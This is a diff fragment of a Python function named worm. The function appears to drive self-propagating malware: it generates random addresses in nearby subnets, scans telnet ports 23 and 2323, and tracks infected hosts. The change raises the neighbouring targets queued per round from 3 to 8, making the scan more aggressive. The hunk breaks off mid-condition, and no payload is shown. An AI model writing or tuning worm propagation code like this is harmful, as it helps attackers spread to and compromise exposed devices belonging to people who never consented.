@@ -582,8 +582,8 @@ def worm(prefix):
     while True:
         targets = ["%s.%d.%d" % (base, third + random.randint(0, 3), random.randint(1, 254))
                    for _ in range(int(rate))]
-        targets += neighbours[:3]
-        del neighbours[:3]
+        targets += neighbours[:8]
+        del neighbours[:8]
         for port in (23, 2323):
             for t in scan_round(targets, port):
                 if port == 2323 and t not in infected:
